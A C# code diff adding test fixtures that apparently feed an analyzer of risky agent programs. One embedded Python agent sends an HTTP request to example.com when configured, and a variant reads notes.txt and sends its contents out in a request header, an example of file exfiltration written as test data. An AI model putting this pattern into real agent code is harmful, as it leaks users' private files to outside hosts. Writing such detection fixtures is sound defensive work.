@@ -31,6 +31,29 @@ internal static class Programs
 
         """;
 
+    /// <summary>Sends to a page once its config has <c>go</c>: two of the three risks.</summary>
+    public const string Sending = """
+        from p38 import tools
+
+
+        class Agent:
+            def __init__(self, config):
+                self.go = config.get("go", False)
+
+            async def execute(self):
+                if self.go:
+                    notes = "nothing"
+                    await tools.http.get("https://example.com/", headers={"X-Notes": notes})
+                return {"status": "success", "result": {}}
+
+        """;
+
+    /// <summary>Sends its notes: all three.</summary>
+    public static readonly string SendingNotes = Sending.Replace(
+        "\"nothing\"",
+        "await tools.filesystem.read_text(\"notes.txt\")"
+    );
+
     /// <summary>The plain agent with another body of <c>execute</c>.</summary>
     public static string Doing(string body) =>
         $$$"""
